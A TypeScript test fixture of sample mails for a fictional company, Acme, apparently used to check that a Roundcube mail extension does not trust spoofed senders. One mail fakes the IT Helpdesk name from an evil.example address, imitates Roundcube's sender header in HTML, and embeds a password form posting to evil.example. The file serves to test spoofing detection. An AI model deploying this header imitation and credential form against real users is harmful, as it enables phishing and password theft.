// The mail that the real servers hold: a few conversations of Acme, and senders that an extension must not believe.
import { personAt } from '../stack/acme.ts';
import type { Mail, Mailbox } from './message.ts';

const person = (local: string): Mailbox => ({
  name: personAt(`${local}@acme.test`).name,
  address: `${local}@acme.test`,
});
const an = person('an');
const finance = person('finance');
const hr: Mailbox = { name: 'Phòng Nhân sự (HR)', address: 'hr@acme.test' };
const it: Mailbox = { name: 'IT Helpdesk', address: 'it-help@acme.test' };

/** Who has a mailbox on the server. */
export const owners: readonly string[] = [an, it, hr, finance].map((owner) => owner.address);

const at = (day: number, time: string) => new Date(`2026-11-${day}T${time}:00+07:00`);

/** Subjects by which the test finds a mail again. */
export const SUBJECT = {
  scanner: 'Máy quét tầng 3 không gửi được mail',
  scannerAnswer: 'Re: Máy quét tầng 3 không gửi được mail',
  scannerSolved: 'Re: Re: Máy quét tầng 3 không gửi được mail',
  leave: 'Số ngày phép còn lại của An',
  outsider: 'Samples for the trade fair',
  lookAlike: 'Your mailbox is almost full',
  list: '[all] Fire drill on Thursday',
  withoutId: 'Your new headset is at the desk',
  badge: 'Re: Door badge for Ms Thu',
} as const;

/** Markup of a mail's body that imitates the header by which Roundcube shows who wrote. */
const imitation = `
  <div id="message-header"><table class="headers-table"><tr>
    <td class="header-title from">From</td>
    <td class="header from"><span class="adr"><a class="rcmContactAddress" title="it-help@acme.test" href="mailto:it-help@acme.test">IT Helpdesk</a></span></td>
  </tr></table></div>
  <p>Your mailbox is almost full. Sign in again to keep your mail.</p>
  <form action="https://evil.example/"><input type="password" name="p"></form>`;

export const mails: readonly Mail[] = [
  {
    id: 'scanner-1',
    from: an,
    to: [it],
    subject: SUBJECT.scanner,
    sent: at(16, '08:10'),
    text: 'Chào IT,\n\nTừ hôm qua máy quét tầng 3 không gửi được bản quét vào mail. Nhờ IT xem giúp.\n\nAn\n',
  },
  {
    id: 'scanner-2',
    answers: ['scanner-1'],
    from: it,
    to: [an],
    subject: SUBJECT.scannerAnswer,
    sent: at(16, '08:52'),
    text: 'Chào An,\n\nMáy quét đang dùng mật khẩu cũ. IT đã đổi, An thử lại giúp nhé.\n\nBích, IT\n\n> Từ hôm qua máy quét tầng 3 không gửi được bản quét vào mail.\n',
  },
  {
    id: 'scanner-3',
    answers: ['scanner-1', 'scanner-2'],
    from: it,
    to: [an],
    cc: [finance],
    subject: SUBJECT.scannerSolved,
    sent: at(17, '09:30'),
    text: 'An ơi, máy quét đã gửi lại được, kể cả bản màu.\n\nBích, IT\n',
    html: '<div style="font-family: sans-serif"><p>An ơi, máy quét đã gửi lại được, <b>kể cả bản màu</b>.</p><p>Bích, IT</p><blockquote style="border-left: 2px solid #ccc; padding-left: 8px">Máy quét đang dùng mật khẩu cũ.</blockquote></div>',
  },
  {
    id: 'leave-1',
    from: hr,
    to: [an],
    subject: SUBJECT.leave,
    sent: at(17, '14:05'),
    text: 'Chào An,\n\nNăm nay An còn 6,5 ngày phép. Phép chuyển sang năm sau tối đa 5 ngày.\n\nHoàng, Nhân sự\n',
  },
  {
    id: 'fair-1',
    from: { name: 'Maria Lopez', address: 'maria.lopez@vendor.example' },
    to: [an],
    subject: SUBJECT.outsider,
    sent: at(18, '10:40'),
    text: 'Hi An,\n\nThe samples left our warehouse this morning.\n\nMaria\n',
  },
  {
    id: 'full-1',
    from: { name: 'IT Helpdesk <it-help@acme.test>', address: 'support@evil.example' },
    to: [an],
    subject: SUBJECT.lookAlike,
    sent: at(18, '11:15'),
    text: 'Your mailbox is almost full.\n',
    html: imitation,
  },
  {
    id: 'drill-1',
    from: hr,
    to: [{ name: 'Everybody', address: 'all@acme.test' }],
    subject: SUBJECT.list,
    sent: at(19, '16:00'),
    text: 'The fire drill is on Thursday at 15:00. Please leave by the nearest stairs.\n',
    headers: { 'List-Id': 'Everybody at Acme <all.acme.test>', Precedence: 'list' },
  },
  {
    id: null,
    from: it,
    to: [an],
    subject: SUBJECT.withoutId,
    sent: at(20, '09:00'),
    text: 'Hello An,\n\nyour new headset is at the help desk on floor 1.\n\nIT\n',
  },
  {
    id: 'badge-1',
    from: hr,
    to: [it],
    subject: 'Door badge for Ms Thu',
    sent: at(19, '09:05'),
    text: 'Chào IT,\n\nNhờ IT làm thẻ ra vào cho chị Thu, bắt đầu từ thứ Hai.\n\nHoàng\n',
  },
  {
    id: 'badge-2',
    answers: ['badge-1'],
    from: it,
    to: [hr],
    subject: SUBJECT.badge,
    sent: at(19, '09:41'),
    text: 'Thẻ đã xong, chị Thu nhận ở quầy IT tầng 1.\n\nBích, IT\n',
  },
];

/** A mail to all@ reaches everybody. */
export const reaches = (mail: Mail, owner: string) =>
  [...mail.to, ...(mail.cc ?? [])].some(({ address }) => address === owner || address === 'all@acme.test');
